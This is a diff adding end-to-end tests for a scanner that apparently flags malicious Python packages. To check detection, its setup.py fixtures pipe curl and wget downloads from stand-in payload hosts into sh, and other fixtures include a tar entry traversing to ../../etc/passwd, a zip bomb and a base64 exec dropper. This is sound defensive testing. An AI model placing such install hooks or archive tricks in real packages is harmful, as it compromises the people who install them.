@@ -1,0 +1,164 @@
+"""The pipeline end to end: artifacts in, verdicts out, cache and limits honoured."""
+
+from __future__ import annotations
+
+import base64
+import os
+import time
+from collections.abc import Iterable
+from pathlib import Path
+
+from depvet.files import FileRole, FileView
+from depvet.limits import Limits, MiB
+from depvet.model import Finding, Rule, ScanResult, Target, Verdict
+from depvet.scan import ScanOptions, _run_detectors, scan
+from depvet.sources.paths import PathSource
+from tests.builders import LITELLM_PTH_LINE, make_sdist, make_wheel, write_tar, write_zip
+
+CLEAN_FILES = {
+    "litellm/__init__.py": "from litellm.main import completion\n",
+    "litellm/main.py": "import os\n\ndef completion(model):\n    return os.environ.get('KEY')\n",
+}
+
+
+def targets_for(*paths: Path) -> list[Target]:
+    return [t for p in paths for t in PathSource(given=str(p)).targets()]
+
+
+def run(*paths: Path, **options: object) -> list[ScanResult]:
+    opts = ScanOptions(jobs=1, cache_dir=None, **options)  # type: ignore[arg-type]
+    results, _, _ = scan(targets_for(*paths), opts)
+    return results
+
+
+def test_litellm_replica_is_malicious_and_clean_twin_is_clean(tmp_path: Path) -> None:
+    bad = make_wheel(
+        tmp_path, "litellm", "1.82.8", {**CLEAN_FILES, "litellm_init.pth": LITELLM_PTH_LINE}
+    )
+    twin_dir = tmp_path / "twin"
+    twin_dir.mkdir()
+    good = make_wheel(twin_dir, "litellm", "1.82.6", CLEAN_FILES)
+    bad_result, good_result = run(bad, good)
+    assert bad_result.verdict is Verdict.MALICIOUS
+    assert (bad_result.name, bad_result.version) == ("litellm", "1.82.8")
+    assert "pth-dangerous-code" in bad_result.decided_by
+    (finding,) = [f for f in bad_result.findings if f.rule == "pth-dangerous-code"]
+    assert finding.path == "litellm_init.pth" and finding.line == 1
+    assert good_result.verdict is Verdict.CLEAN
+    assert good_result.findings == ()
+
+
+def test_setup_hook_sdist_is_malicious(tmp_path: Path) -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "os.system('curl -s https://payload.example.invalid/x | sh')\n"
+        "setup(name='demo', version='1.0')\n"
+    )
+    sdist = make_sdist(tmp_path, "demo", "1.0", {"setup.py": setup})
+    (result,) = run(sdist)
+    assert result.verdict is Verdict.MALICIOUS
+    assert any(f.path == "demo-1.0/setup.py" for f in result.findings)
+
+
+def test_python2_setup_is_still_scanned(tmp_path: Path) -> None:
+    setup = (
+        "import os\nprint 'installing'\n"
+        "os.system('wget http://payload.example.invalid/a -O /tmp/a; sh /tmp/a')\n"
+    )
+    (result,) = run(make_sdist(tmp_path, "old", "0.1", {"setup.py": setup}))
+    assert result.verdict is not Verdict.CLEAN
+    assert result.findings
+
+
+def test_bad_inputs_do_not_affect_the_others(tmp_path: Path) -> None:
+    good = make_wheel(tmp_path, "good", "1.0", CLEAN_FILES)
+    truncated = tmp_path / "trunc-1.0.tar.gz"
+    whole = write_tar(
+        tmp_path / "whole.tar.gz",
+        {f"trunc-1.0/m{i}.py": os.urandom(4000) for i in range(10)},
+    )
+    truncated.write_bytes(whole.read_bytes()[:20000])
+    whole.unlink()
+    empty = tmp_path / "empty-1.0.tar.gz"
+    empty.write_bytes(b"")
+    hostile = write_tar(
+        tmp_path / "hostile-1.0.tar.gz",
+        {"../../etc/passwd": b"x", "hostile-1.0/\x1b[31mname\n.py": b"\xff\xfe\x00 not utf-8"},
+    )
+    bomb = tmp_path / "bomb-1.0.zip"
+    write_zip(bomb, {"bomb/zeros": b"\0" * (4 * MiB), "bomb/ok.py": b"x = 1\n"})
+    limits = Limits(ratio_floor=1 * MiB, max_ratio=100)
+    results = {r.name: r for r in run(good, truncated, empty, hostile, bomb, limits=limits)}
+    assert results["good"].verdict is Verdict.CLEAN and not results["good"].errors
+    assert results["trunc"].errors[-1].reference == "artifact-unreadable"
+    assert results["trunc"].files > 0  # read as far as it goes
+    assert results["empty"].verdict is Verdict.ERROR
+    assert "empty file" in results["empty"].errors[0].message
+    assert {e.reference for e in results["hostile"].errors} == {"unsafe-member"}
+    assert results["hostile"].files == 2
+    assert results["bomb"].files == 1
+    assert any("ratio" in e.message for e in results["bomb"].errors)
+
+
+def test_huge_one_line_python_file_is_scanned_in_bounded_time(tmp_path: Path) -> None:
+    blob = base64.b64encode(os.urandom(37 * MiB))  # a 50 MB one-line payload, as droppers ship
+    line = b"import base64\nexec(base64.b64decode('" + blob + b"'))\n"
+    sdist = make_sdist(tmp_path, "huge", "1.0", {"setup.py": line})
+    started = time.monotonic()
+    (result,) = run(sdist)
+    assert time.monotonic() - started < 60
+    assert result.files == 2 and result.verdict is not Verdict.ERROR
+
+
+class Spinner:
+    """A detector that never finishes, to exercise the per-file time budget."""
+
+    rules: tuple[Rule, ...] = ()
+
+    def wants(self, file: FileView) -> bool:
+        return True
+
+    def scan(self, file: FileView) -> Iterable[Finding]:
+        while True:
+            time.sleep(0.01)
+
+
+def test_per_file_time_budget() -> None:
+    view = FileView(path="x.py", role=FileRole.PYTHON, data=b"x = 1\n")
+    started = time.monotonic()
+    findings, error = _run_detectors(view, [Spinner()], 0.2)
+    assert time.monotonic() - started < 5
+    assert findings == []
+    assert error is not None and error.reference == "file-timeout" and error.path == "x.py"
+
+
+def snapshot(root: Path) -> set[str]:
+    return {str(p.relative_to(root)) for p in root.rglob("*")}
+
+
+def test_cache_hits_on_second_scan_and_nothing_written_elsewhere(tmp_path: Path) -> None:
+    work = tmp_path / "work"
+    work.mkdir()
+    make_wheel(work, "litellm", "1.82.8", {**CLEAN_FILES, "litellm_init.pth": LITELLM_PTH_LINE})
+    make_sdist(work, "demo", "1.0", {"setup.py": "from setuptools import setup\nsetup()\n"})
+    before = snapshot(work)
+    cache_dir = tmp_path / "cache"
+    options = ScanOptions(jobs=1, cache_dir=cache_dir)
+    first, summary1, _ = scan(targets_for(work), options)
+    second, summary2, _ = scan(targets_for(work), options)
+    assert snapshot(work) == before
+    assert summary1.cached_files == 0 and summary2.cached_files > 0
+    assert [r.findings for r in first] == [r.findings for r in second]
+    assert [r.verdict for r in first] == [r.verdict for r in second]
+    assert list(cache_dir.iterdir())
+
+
+def test_parallel_and_serial_agree(tmp_path: Path) -> None:
+    make_wheel(tmp_path, "litellm", "1.82.8", {**CLEAN_FILES, "litellm_init.pth": LITELLM_PTH_LINE})
+    for i in range(4):
+        make_sdist(tmp_path, f"pkg{i}", "1.0", {"setup.py": "from setuptools import setup\n"})
+    targets = targets_for(tmp_path)
+    serial, _, _ = scan(targets, ScanOptions(jobs=1))
+    parallel, summary, _ = scan(targets, ScanOptions(jobs=2))
+    assert serial == parallel
+    assert summary.by_verdict["malicious"] == 1 and summary.by_verdict["clean"] == 4
